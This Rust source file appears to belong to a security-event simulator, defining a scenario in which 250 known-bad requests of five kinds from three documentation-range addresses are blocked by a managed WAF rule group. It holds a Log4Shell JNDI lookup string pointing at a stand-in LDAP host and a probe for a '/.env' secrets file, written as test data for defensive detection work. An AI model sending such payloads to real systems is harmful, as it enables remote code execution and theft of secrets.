//! Inputs that are known to be bad, one kind after the other: look-ups for Log4j, serialised Java, a
//! forged host, files that give secrets away.

use std::time::Duration;

use super::{About, Scene, Story, misconfiguration};
use crate::acl::Profile;
use crate::catalog::Catalog;
use crate::crew::{Band, Fate, Sources, Wish, Wishes};
use crate::kit;
use crate::plan::{Act, EventPlan};
use crate::rules::{Group, Verdict};

const REQUESTS: u64 = 250;
const PATHS: [&str; 3] = ["/prod/app", "/prod/orders", "/.env"];

pub(super) struct Inputs;

impl Story for Inputs {
    fn about(&self) -> About {
        About::eventful(
            "inputs",
            "250 known bad inputs of five kinds from 3 addresses, blocked by a managed rule group",
            1.0,
            Duration::from_secs(5 * 60),
        )
    }

    fn profile(&self) -> Profile {
        Profile::Api
    }

    fn background(&self, scene: &Scene, catalog: &mut Catalog) -> Vec<Act> {
        misconfiguration::users(scene, catalog)
    }

    fn events(&self, scene: &Scene, catalog: &mut Catalog) -> Vec<EventPlan> {
        let hosts = [31, 32, 33].map(|host| [203, 0, 113, host]);
        let sources = Sources::few(catalog, &hosts, "SG", kit::CURL);
        let query = Wish::get(catalog, PATHS[0])
            .with_args(catalog, &["q=${jndi:ldap://203.0.113.200/a}"])
            .ruled(catalog, Verdict::Log4Shell);
        let header = Wish::get(catalog, PATHS[0]).ruled(catalog, Verdict::Log4ShellHeader);
        let java = Wish::post(catalog, PATHS[1]).ruled(catalog, Verdict::JavaDeserialization);
        let host = Wish::get(catalog, PATHS[0]).ruled(catalog, Verdict::LocalHost);
        let secret = Wish::get(catalog, PATHS[2]).ruled(catalog, Verdict::ExploitablePath);
        let list = vec![(6, query), (5, header), (4, java), (2, host), (3, secret)];
        let band = Band {
            sources: sources.clone(),
            wishes: Wishes::weighted(list),
            fate: Fate::Always(catalog.ruling(Verdict::Log4Shell)),
        };
        let count = scene.count(REQUESTS);
        vec![EventPlan {
            addresses: sources.addresses(3),
            rule: Some(catalog.profile.rule_name(Group::KnownBadInputs)),
            inner_rule: Some("Log4JRCE_QUERYSTRING".to_owned()),
            uris: PATHS.map(str::to_owned).to_vec(),
            acts: vec![Act::event(scene.target, scene.event, count, band)],
            ..EventPlan::new(
                "inputs",
                "known bad inputs are tried and blocked",
                scene.target,
                scene.event,
            )
        }]
    }
}
